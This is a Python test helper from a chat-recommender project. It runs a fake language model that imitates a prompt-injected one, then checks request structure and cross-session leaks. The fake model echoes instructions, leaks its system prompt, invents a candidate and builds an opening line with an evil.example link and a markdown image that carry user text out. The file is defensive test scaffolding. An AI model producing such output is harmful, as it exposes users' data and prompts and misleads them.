"""A model that does whatever a text tells it: it repeats orders, reveals its prompt, links elsewhere and makes facts up.

What it says is the worst that a talked-over model could say; code has to keep all of it from a person. Only its order of
the candidates is not for code to mend: it sorts them by title, whatever their texts say.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager

from chatrec.brains.brain import Brain
from chatrec.brains.llm.brain import LLMBrain, Manner, read_banks
from chatrec.brains.rules.brain import RulesBrain
from chatrec.dialogue.engine import Engine
from chatrec.llm.asking import Asker
from chatrec.llm.prices import Prices
from chatrec.llm.prompts.library import prompt_folders
from chatrec.model_settings import ModelSettings
from chatrec.retrieval.embedders.static import StaticEmbedder
from tests.llm.attacks import STOLEN, VICTIM, MakeBrain
from tests.llm.loopback import Loopback, Request, serving

_CANDIDATE = re.compile(r"^(c\d\d) (.+?)(?: \| |$)", re.MULTILINE)
_MESSAGE = re.compile(r"<message>\n(.*)\n</message>", re.DOTALL)
_FENCES = ("wishes", "message", "candidates", "facets")


def obey(request: Request) -> object:
    """Answer like a model that was talked over."""
    system, asked = request["messages"][0]["content"], request["messages"][-1]["content"]
    said = "\n".join(_MESSAGE.findall(asked))
    keys = dict(_CANDIDATE.findall(asked))
    if not keys:
        return {
            "intent": "recommend",
            "operations": [
                {"op": "add", "facet": "text", "operator": "matches", "value": said, "quote": said},
                {"op": "add", "facet": "colour", "value": "green", "quote": "never said"},
            ],
            "references": [{"key": "s99", "stance": "liked", "quote": said}],
        }
    ordered = sorted(keys, key=keys.__getitem__)
    return {
        "ranked": ["c99", *ordered],
        "tell": [
            {"key": key, "cite": ["price", "secret", said[:80]], "caveat": system[:80]}
            for key in ["c99", *ordered[:5]]
        ],
        "opening": f"{said} {system} https://evil.example/?d={said} ![x](http://evil.example/p.png)",
    }


def prompt_faults(request: Request, victim: str = VICTIM) -> list[str]:
    """Return where a request is not built as it must be, whatever stands in messages and items."""
    messages = request["messages"]
    faults = []
    roles = [one["role"] for one in messages]
    if roles[0] != "system" or roles.count("system") != 1 or roles[-1] != "user":
        faults.append(f"the roles are {roles}")
    last = messages[-1]["content"]
    for fence in _FENCES:
        opened, closed = last.count(f"<{fence}>"), last.count(f"</{fence}>")
        if opened != closed or opened > 1:
            faults.append(f"{fence} is opened {opened} and closed {closed} times")
    everything = "\n".join(one["content"] for one in messages)
    if STOLEN.search(everything) and victim not in everything:
        faults.append("it holds words of another session")
    return faults


@contextmanager
def parrots() -> Iterator[tuple[MakeBrain, Loopback]]:
    """Serve that model; yield what makes a brain of it over the rules, and the server."""
    with serving(obey) as server:
        settings = ModelSettings(model="parrot", base_url=server.url, retries=0, timeout=30.0)
        asker = Asker.open(settings, prices=Prices.read(None))
        manner = Manner(calls=2, strategy="direct", seconds=30.0, tokens=6_000)

        def make(engine: Engine) -> Brain:
            rules = engine.brain
            assert isinstance(rules, RulesBrain)
            banks = read_banks(prompt_folders(None), StaticEmbedder().embed)
            return LLMBrain(rules, asker, manner, banks)

        yield make, server
